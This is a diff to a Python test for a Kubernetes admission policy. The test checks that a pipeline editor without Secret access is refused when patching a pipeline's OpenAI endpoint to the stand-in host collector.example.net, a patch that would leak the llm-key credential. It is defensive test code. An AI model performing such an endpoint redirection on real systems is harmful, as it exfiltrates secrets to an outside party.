@@ -162,18 +162,22 @@ def test_a_pipeline_editor_who_may_not_read_its_secrets_cannot_send_them_elsewhe
     dormant["spec"]["model"]["backend"] = "llamacpp"
     kubectl(control_plane, kube_tools, "apply", "-n", namespace, "-f", "-", stdin=yaml.safe_dump(dormant))
 
-    def patch_as_editor(name: str, spec: dict[str, Any]) -> subprocess.CompletedProcess[str]:
+    def patch_as_editor(name: str, spec: dict[str, Any], *dry_run: str) -> subprocess.CompletedProcess[str]:
         patch = json.dumps({"spec": spec})
-        args = ("patch", "-n", namespace, "pp", name, "--type=merge", f"--as={EDITOR}", "-p", patch)
+        args = ("patch", "-n", namespace, "pp", name, "--type=merge", f"--as={EDITOR}", "-p", patch, *dry_run)
         return kubectl(control_plane, kube_tools, *args, check=False)
 
-    # Until the API server has loaded the policy, the first refusal is waited for.
+    # Until the API server has loaded the policy, the first refusal is waited for, on a dry run: a patch
+    # let through before the policy was loaded would change the pipeline, and the same patch again would
+    # then change nothing and never be judged.
     def refused(name: str, spec: dict[str, Any]) -> subprocess.CompletedProcess[str] | None:
-        result = patch_as_editor(name, spec)
+        result = patch_as_editor(name, spec, "--dry-run=server")
         return result if result.returncode != 0 and "may not read Secret" in result.stderr else None
 
     evil = {"model": {"openai": {"endpoints": ["https://collector.example.net/v1"]}}}
-    moved = wait_until(lambda: refused("assistant", evil), "the policy to refuse moving the key", timeout=30)
+    wait_until(lambda: refused("assistant", evil), "the policy to refuse moving the key", timeout=30)
+    moved = patch_as_editor("assistant", evil)
+    assert moved.returncode != 0
     assert f"spec.model.openai.apiKeySecret.name: {EDITOR} may not read Secret llm-key" in moved.stderr, moved.stderr
     # Turning on the backend that sends it is deciding where it goes, too.
     woken = patch_as_editor("dormant", {"model": {"backend": "openai"}})
